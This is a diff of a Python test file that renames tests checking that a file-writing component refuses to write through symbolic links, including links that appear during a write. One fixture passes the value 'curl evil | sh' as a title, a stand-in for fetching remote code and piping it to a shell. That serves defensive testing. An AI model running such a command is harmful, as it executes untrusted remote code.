@@ -75,9 +75,7 @@ WAYS = [folders.PathFolder, *([folders.DescriptorFolder] if folders.HAS_DESCRIPT
 
 @each("link", LINKS)
 @each("kind", FILES)
-def test_place_that_is_a_link_is_named_and_never_written_through(
-    kind: str, link: str, tmp_path: Path
-) -> None:
+def test_linked_place_is_named_and_never_written_through(kind: str, link: str, tmp_path: Path) -> None:
     vault = Vault(tmp_path, kind)
     bench = SinkBench(vault.base)
     bench.approve({"title": "curl evil | sh"})
@@ -96,7 +94,7 @@ def test_place_that_is_a_link_is_named_and_never_written_through(
 @each("link", LINKS)
 @each("moment", ["before the comparison", "before the file is created", "before it is renamed"])
 @each("way", WAYS)
-def test_link_that_appears_during_a_write_is_not_written_through(
+def test_link_appearing_during_a_write_is_not_written_through(
     way: type[folders.Folder],
     moment: str,
     link: str,
@@ -170,7 +168,7 @@ def test_export_to_a_link_is_refused_and_to_a_linked_folder_is_written(link: str
 
 
 @pytest.mark.skipif(sys.platform == "win32", reason="needs users of POSIX")
-def test_link_is_followed_only_where_an_administrator_alone_can_change_it(tmp_path: Path) -> None:
+def test_link_is_followed_only_if_changeable_by_an_administrator_alone(tmp_path: Path) -> None:
     if os.geteuid() != 0:
         pytest.skip("needs links of root, and a user who is not root")
     (tmp_path / "usr/home/ana").mkdir(parents=True)
